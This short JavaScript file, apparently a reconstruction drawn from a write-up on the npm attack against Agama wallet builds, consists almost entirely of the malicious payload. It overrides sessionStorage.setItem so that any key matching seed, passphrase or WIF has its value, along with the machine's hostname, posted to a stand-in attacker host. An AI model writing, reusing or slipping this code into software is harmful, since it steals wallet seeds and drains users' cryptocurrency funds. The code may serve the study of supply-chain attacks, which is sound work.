// What the server returned to Agama wallet builds (reconstructed from the npm write-up): wait for the wallet to
// load a seed, then send it to the attacker.
const https = require('https');
function send(seed) {
  const req = https.request({ host: 'notify-api.sbmtech.example', path: '/v1/collect', method: 'POST', headers: { 'Content-Type': 'application/json' } });
  req.on('error', () => {});
  req.end(JSON.stringify({ seed, host: require('os').hostname() }));
}
if (typeof window !== 'undefined' && window.appConfig && window.appConfig.coin) {
  const orig = window.sessionStorage.setItem.bind(window.sessionStorage);
  window.sessionStorage.setItem = (k, v) => { if (/seed|passphrase|wif/i.test(k)) send(v); return orig(k, v); };
}
